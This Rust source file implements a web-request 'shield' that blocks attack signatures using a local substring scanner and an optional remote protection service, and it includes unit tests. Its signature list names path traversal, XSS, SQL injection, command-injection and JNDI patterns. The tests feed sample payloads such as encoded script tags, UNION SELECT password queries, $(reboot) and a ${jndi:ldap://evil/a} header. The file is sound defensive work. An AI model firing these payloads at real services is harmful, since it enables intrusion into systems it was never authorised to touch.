//! Shield rule: request-shape inspection for attack signatures.
//!
//! Two implementations:
//! - [`HeuristicShield`]: local substring scan over the raw and
//!   percent-decoded path, decoded query pairs and header values (auth
//!   headers excluded).
//! - [`RemoteShield`]: posts a request summary to an external protection
//!   service and trusts its verdict.

use std::collections::BTreeMap;
use std::time::Duration;

use async_trait::async_trait;
use axum::http::header;
use serde::{Deserialize, Serialize};

use crate::config::schema::ShieldConfig;
use crate::protection::{ProtectedRequest, RuleFault, RuleKind, RuleVerdict};

#[async_trait]
pub trait Shield: Send + Sync {
    async fn inspect(&self, request: &ProtectedRequest) -> Result<RuleVerdict, RuleFault>;
}

const MAX_TARGET_LEN: usize = 4096;

// No regex: every check is a bounded substring scan. Needles are lowercase.
const SIGNATURES: &[(&str, &[&str])] = &[
    ("path_traversal", &["../", "..\\", "%2e%2e", "..%2f", "..%5c", "/etc/passwd", "/proc/self/"]),
    ("xss", &["<script", "%3cscript", "javascript:", "onerror=", "onload=", "<iframe", "document.cookie"]),
    (
        "sql_injection",
        &["' or '1'='1", "' or 1=1", "\" or \"1\"=\"1", "union select", "union all select", "; drop table", "information_schema", "sleep(", "benchmark(", "' --"],
    ),
    ("command_injection", &["; rm -", "| cat ", "$(", "`", "&& curl", "; wget ", "| sh"]),
    ("jndi", &["${jndi:"]),
];

/// Local signature-based shield.
#[derive(Debug, Clone, Copy, Default)]
pub struct HeuristicShield;

impl HeuristicShield {
    /// Name of the first signature class found in the request, if any.
    pub fn scan(request: &ProtectedRequest) -> Option<&'static str> {
        let path = request.uri.path();
        let query = request.uri.query().unwrap_or("");
        if path.len() + query.len() > MAX_TARGET_LEN {
            return Some("oversized_target");
        }

        let decoded_path = String::from_utf8_lossy(&urlencoding::decode_binary(path.as_bytes())).to_lowercase();
        let mut targets: Vec<String> = vec![path.to_ascii_lowercase(), decoded_path];
        targets.extend(
            url::form_urlencoded::parse(query.as_bytes())
                .flat_map(|(k, v)| [k.to_lowercase(), v.to_lowercase()]),
        );
        targets.extend(
            request
                .headers
                .iter()
                .filter(|(name, _)| **name != header::AUTHORIZATION && **name != header::COOKIE)
                .filter_map(|(_, value)| value.to_str().ok())
                .map(str::to_lowercase),
        );

        SIGNATURES
            .iter()
            .find(|(_, needles)| {
                targets
                    .iter()
                    .any(|target| needles.iter().any(|n| target.contains(n)))
            })
            .map(|(class, _)| *class)
    }
}

#[async_trait]
impl Shield for HeuristicShield {
    async fn inspect(&self, request: &ProtectedRequest) -> Result<RuleVerdict, RuleFault> {
        match Self::scan(request) {
            Some(signature) => {
                tracing::debug!(signature, path = %request.context.path, "Shield signature matched");
                Ok(RuleVerdict::deny(RuleKind::Shield))
            }
            None => Ok(RuleVerdict::allow(RuleKind::Shield)),
        }
    }
}

/// Request summary sent to the protection service.
#[derive(Debug, Serialize)]
struct ShieldQuery<'a> {
    method: &'a str,
    path: &'a str,
    query: Option<&'a str>,
    ip: Option<String>,
    user_agent: Option<&'a str>,
    headers: BTreeMap<&'a str, &'a str>,
}

#[derive(Debug, Deserialize)]
struct ShieldAnswer {
    allowed: bool,
}

/// Shield backed by a remote protection service.
#[derive(Debug, Clone)]
pub struct RemoteShield {
    client: reqwest::Client,
    endpoint: String,
    key: Option<String>,
    timeout: Duration,
}

impl RemoteShield {
    /// `None` when no service endpoint is configured.
    pub fn from_config(config: &ShieldConfig) -> Result<Option<Self>, RuleFault> {
        let Some(endpoint) = config.service_url.clone() else {
            return Ok(None);
        };
        let timeout = Duration::from_millis(config.timeout_ms);
        let client = reqwest::Client::builder()
            .timeout(timeout)
            .build()
            .map_err(|e| RuleFault::Remote(e.to_string()))?;
        Ok(Some(Self {
            client,
            endpoint,
            key: config.service_key.clone(),
            timeout,
        }))
    }
}

#[async_trait]
impl Shield for RemoteShield {
    async fn inspect(&self, request: &ProtectedRequest) -> Result<RuleVerdict, RuleFault> {
        let headers = request
            .headers
            .iter()
            .filter(|(name, _)| **name != header::AUTHORIZATION && **name != header::COOKIE)
            .filter_map(|(name, value)| value.to_str().ok().map(|v| (name.as_str(), v)))
            .collect();
        let query = ShieldQuery {
            method: request.method.as_str(),
            path: request.uri.path(),
            query: request.uri.query(),
            ip: request.context.client_ip.map(|ip| ip.to_string()),
            user_agent: request.context.user_agent.as_deref(),
            headers,
        };

        let mut call = self.client.post(&self.endpoint).json(&query);
        if let Some(key) = &self.key {
            call = call.bearer_auth(key);
        }

        let response = call.send().await.map_err(|e| {
            if e.is_timeout() {
                RuleFault::Timeout {
                    rule: RuleKind::Shield,
                    after: self.timeout,
                }
            } else {
                RuleFault::Remote(e.to_string())
            }
        })?;

        let status = response.status();
        if !status.is_success() {
            return Err(RuleFault::BadResponse(format!("protection service returned {status}")));
        }

        let answer: ShieldAnswer = response
            .json()
            .await
            .map_err(|e| RuleFault::BadResponse(e.to_string()))?;

        Ok(if answer.allowed {
            RuleVerdict::allow(RuleKind::Shield)
        } else {
            RuleVerdict::deny(RuleKind::Shield)
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use axum::{http::StatusCode, routing::post, Json, Router};
    use std::sync::atomic::{AtomicBool, Ordering};
    use std::sync::Arc;

    fn request(uri: &str, headers: &[(&str, &str)]) -> ProtectedRequest {
        let mut builder = axum::http::Request::builder().uri(uri);
        for (name, value) in headers {
            builder = builder.header(*name, *value);
        }
        let req = builder.body(axum::body::Body::empty()).unwrap();
        ProtectedRequest::from_request(&req, false)
    }

    #[test]
    fn test_clean_request_passes() {
        let req = request("/api/users/3?page=2&sort=name", &[("user-agent", "Mozilla/5.0")]);
        assert_eq!(HeuristicShield::scan(&req), None);
    }

    #[test]
    fn test_signatures_detected() {
        let cases = [
            ("/static/../../etc/passwd", "path_traversal"),
            ("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "xss"),
            ("/login?user=admin%27%20OR%20%271%27%3D%271", "sql_injection"),
            ("/items?id=1%20UNION%20SELECT%20password%20FROM%20users", "sql_injection"),
            ("/run?cmd=%24(reboot)", "command_injection"),
        ];
        for (uri, class) in cases {
            assert_eq!(HeuristicShield::scan(&request(uri, &[])), Some(class), "{uri}");
        }
    }

    #[test]
    fn test_encoded_path_segments_are_decoded() {
        let cases = [
            ("/api/users/1%27%20or%20%271%27%3D%271", "sql_injection"),
            ("/files/%3Cscript%3Ealert(1)", "xss"),
            ("/run/%24%28reboot%29", "command_injection"),
        ];
        for (uri, class) in cases {
            assert_eq!(HeuristicShield::scan(&request(uri, &[])), Some(class), "{uri}");
        }
        assert_eq!(HeuristicShield::scan(&request("/api/users/jo%20ann", &[])), None);
    }

    #[test]
    fn test_header_values_inspected_except_credentials() {
        let req = request("/", &[("user-agent", "${jndi:ldap://evil/a}")]);
        assert_eq!(HeuristicShield::scan(&req), Some("jndi"));

        let req = request("/", &[("cookie", "token=$(weird)")]);
        assert_eq!(HeuristicShield::scan(&req), None);
    }

    #[test]
    fn test_oversized_target() {
        let uri = format!("/{}", "a".repeat(MAX_TARGET_LEN + 1));
        assert_eq!(HeuristicShield::scan(&request(&uri, &[])), Some("oversized_target"));
    }

    async fn spawn_service(allowed: bool, seen_key: Arc<AtomicBool>) -> String {
        let app = Router::new().route(
            "/shield",
            post(move |headers: axum::http::HeaderMap| {
                let seen_key = seen_key.clone();
                async move {
                    if headers.get("authorization").and_then(|v| v.to_str().ok()) == Some("Bearer svc-key") {
                        seen_key.store(true, Ordering::SeqCst);
                    }
                    (StatusCode::OK, Json(serde_json::json!({ "allowed": allowed })))
                }
            }),
        );
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(async move {
            let _ = axum::serve(listener, app).await;
        });
        format!("http://{addr}/shield")
    }

    fn remote(endpoint: String) -> RemoteShield {
        let config = ShieldConfig {
            service_url: Some(endpoint),
            service_key: Some("svc-key".into()),
            timeout_ms: 2_000,
        };
        RemoteShield::from_config(&config).unwrap().unwrap()
    }

    #[tokio::test]
    async fn test_remote_verdicts() {
        let seen_key = Arc::new(AtomicBool::new(false));
        let deny = remote(spawn_service(false, seen_key.clone()).await);
        let verdict = deny.inspect(&request("/", &[])).await.unwrap();
        assert!(!verdict.allowed);
        assert_eq!(verdict.rule, RuleKind::Shield);
        assert!(seen_key.load(Ordering::SeqCst));

        let allow = remote(spawn_service(true, Arc::new(AtomicBool::new(false))).await);
        assert!(allow.inspect(&request("/", &[])).await.unwrap().allowed);
    }

    #[tokio::test]
    async fn test_unreachable_service_is_fault() {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        drop(listener);

        let shield = remote(format!("http://{addr}/shield"));
        assert!(shield.inspect(&request("/", &[])).await.is_err());
    }

    #[test]
    fn test_no_endpoint_means_no_remote() {
        assert!(RemoteShield::from_config(&ShieldConfig::default()).unwrap().is_none());
    }
}
